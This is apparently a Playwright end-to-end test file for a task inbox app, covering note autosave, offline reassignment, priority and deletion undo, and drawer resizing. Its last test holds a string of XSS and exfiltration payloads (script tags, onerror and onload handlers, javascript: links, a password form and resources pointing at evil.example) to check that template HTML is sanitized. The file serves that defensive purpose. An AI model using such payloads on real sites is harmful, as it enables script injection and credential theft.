import type { Task } from '#contract/task.ts'
import { expect, signInAs, test } from './fixtures.ts'
import { drawer, openTask, taskRow } from './inbox-page.ts'
import { actionsOn, ask, makeTask, readTask, userIdOf } from './task-api.ts'

const rep = 'Amara Diallo'

test('a note is saved as it is typed, and what was typed last survives a reload', async ({ page, service }) => {
  const task = await makeTask(service, rep, 'Begun by the note’s test')
  await signInAs(page, rep)
  await openTask(page, 'Begun by the note’s test')
  const note = drawer(page).getByRole('textbox', { name: 'Note' })
  await note.fill('Saved when the typing pauses')
  await expect(drawer(page).getByText('Saved', { exact: true })).toBeVisible()
  expect((await readTask(service, task.id)).attributes.note).toBe('Saved when the typing pauses')
  await note.press('End')
  await note.pressSequentially(', and the last word')
  await page.reload()
  await expect(note).toHaveValue('Saved when the typing pauses, and the last word')
  await expect.poll(async () => (await readTask(service, task.id)).attributes.note).toBe('Saved when the typing pauses, and the last word')
  expect(await actionsOn(service, task.id)).toEqual(['updateNote', 'updateNote'])
})

test('a note that was typed for a task that went out of sight is given back to be copied', async ({ page, context, service, expectedErrors }) => {
  expectedErrors.push(/Failed to load resource|net::ERR_/)
  const task = await makeTask(service, rep, 'Goes to another team while a note is typed')
  await signInAs(page, rep)
  await openTask(page, 'Goes to another team while a note is typed')
  await context.setOffline(true)
  await drawer(page).getByRole('textbox', { name: 'Note' }).fill('Said on the phone: call back in May')
  await ask(service, `/api/v2/tasks/${task.id}/actions/reassignOwner?actionParams[ownerId]=${await userIdOf(service, 'Mei Tanaka')}`, { method: 'POST' })
  await context.setOffline(false)
  const told = page.getByRole('alert')
  await expect(told).toContainText('went where you don’t see it')
  await expect(told.getByRole('blockquote')).toHaveText('Said on the phone: call back in May')
  await told.getByRole('button', { name: 'Copy what you typed' }).click()
  await expect(told.getByRole('button', { name: /Copied|Select it above/ })).toBeVisible()
  await expect(drawer(page)).toContainText('There is no such task')
})

test('a priority is set where it stands, and taken back', async ({ page, service }) => {
  const task = await makeTask(service, rep, 'Gets a priority')
  const priority = async () => (await readTask(service, task.id)).relationships['taskPriority']?.data ?? null
  await signInAs(page, rep)
  await openTask(page, 'Gets a priority')
  await drawer(page).getByRole('button', { name: /^Priority/ }).click()
  await page.getByRole('menuitemradio', { name: 'Urgent' }).click()
  await expect(drawer(page).getByRole('button', { name: 'Priority: Urgent' })).toBeVisible()
  await expect.poll(priority).not.toBeNull()
  await page.getByRole('button', { name: /^Undo/ }).click()
  await expect(drawer(page).getByRole('button', { name: 'Priority: none' })).toBeVisible()
  await expect.poll(priority).toBeNull()
})

test('a deletion waits and comes back, and then goes for good', async ({ page, service, expectedErrors }) => {
  // The page asks for a task that is gone.
  expectedErrors.push(/404/)
  const task = await makeTask(service, rep, 'Goes in the end')
  await signInAs(page, rep)
  await openTask(page, 'Goes in the end')
  const remove = async () => {
    await drawer(page).getByRole('button', { name: 'More actions' }).click()
    await page.getByRole('menuitem', { name: 'Delete' }).click()
    await expect(drawer(page).getByText('This task is deleted.')).toBeVisible()
  }
  await remove()
  await drawer(page).getByRole('button', { name: 'Undo' }).click()
  await expect(drawer(page).getByText('This task is deleted.')).toBeHidden()
  await remove()
  await expect(drawer(page).getByText('There is no such task')).toBeVisible({ timeout: 15_000 })
  await expect(readTask(service, task.id)).rejects.toThrow('404')
  await page.getByRole('button', { name: 'Refresh' }).click()
  await expect(taskRow(page, 'Goes in the end')).toHaveCount(0)
})

test('a task is completed with its outcome, and the drawer is made wider by keys', async ({ page, service }) => {
  const task = await makeTask(service, rep, 'Ends with an outcome')
  await page.setViewportSize({ width: 1440, height: 900 })
  await signInAs(page, rep)
  await openTask(page, 'Ends with an outcome')
  const edge = drawer(page).getByRole('separator', { name: 'Width of the task details' })
  const width = async () => (await drawer(page).boundingBox())?.width
  expect(await width()).toBe(480)
  await edge.press('ArrowLeft')
  expect(await width()).toBe(504)
  await page.reload()
  await expect(edge).toHaveAttribute('aria-valuenow', '504')
  await edge.press('Enter')
  expect(await width()).toBe(480)
  await drawer(page).getByRole('button', { name: 'More actions' }).click()
  await page.getByRole('menuitem', { name: /outcome/ }).click()
  await page.getByRole('textbox', { name: /record/ }).fill('They will sign on Monday')
  await page.getByRole('form', { name: /outcome/ }).getByRole('button', { name: 'Complete' }).click()
  await expect.poll(async () => (await readTask(service, task.id)).attributes.state, { timeout: 15_000 }).toBe('complete')
})

const hostile = `<p>Hello <b>Dana</b></p><script>top.pwned = 1</script><img src="https://images.example/pixel.png" onerror="top.pwned = 2"><img src=x onerror="top.pwned = 3">
<svg onload="top.pwned = 4"><style>@import url(https://evil.example/a.css)</style></svg><a href="javascript:top.pwned = 5">Press</a><p style="background: url(https://evil.example/b.png)">Styled</p>
<form action="https://evil.example/c"><input name="password"><button>Send</button></form><meta http-equiv="refresh" content="0;url=https://evil.example/d"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/e.css"><iframe src="https://evil.example/f"></iframe><video poster="https://evil.example/g.png"></video><table background="https://evil.example/h.png"><tr><td>Cell</td></tr></table>
<picture><source srcset="https://evil.example/i.png"></picture><object data="https://evil.example/j"></object><math><mtext><img src="https://evil.example/k.png" onload="top.pwned = 6"></mtext></math>`

test('hostile template HTML runs nothing, and fetches nothing before its images are asked for', async ({ page, service, expectedErrors }) => {
  // The images' host doesn't exist, the page's policy tells what it stopped while the HTML was cleaned, and the frame doesn't let the fixture's script run.
  expectedErrors.push(/ERR_/, /Content Security Policy/, /document is sandboxed/, /Blocked script execution/)
  const task = await makeTask(service, rep, 'Has a hostile template')
  // Our own service makes no such template; an Outreach account's answer may hold one.
  await page.route(/\/api\/v2\/tasks(?:\/\d+)?\?/, async (route) => {
    const answer = await route.fetch()
    const document = (await answer.json()) as { data: Task | Task[] }
    for (const { id, attributes } of [document.data].flat()) if (id === task.id) attributes.compiledSequenceTemplateHtml = hostile
    await route.fulfill({ response: answer, json: document })
  })
  const foreign: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(service.url) && /^https?:/.test(request.url())) foreign.push(request.url())
  })
  await signInAs(page, rep)
  await openTask(page, 'Has a hostile template')
  const message = page.frameLocator('iframe[title="The message"]')
  await expect(message.getByText('Dana')).toBeVisible()
  await expect(message.locator('script, form, input, svg, iframe, object, meta[http-equiv], base, link, video, [style], [onerror], [onload]')).toHaveCount(0)
  await message.getByText('Press').click()
  expect(foreign).toEqual([])
  const images = drawer(page).getByRole('button', { name: /^Show/ })
  await images.click()
  await expect(images).toBeHidden()
  await expect(message.getByText('Dana')).toBeVisible()
  await expect.poll(() => foreign).toContain('https://images.example/pixel.png')
  expect(foreign.filter((url) => !/\/(?:pixel|k)\.png$/.test(url))).toEqual([])
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  // Readings that are still under way.
  await page.unrouteAll({ behavior: 'ignoreErrors' })
})
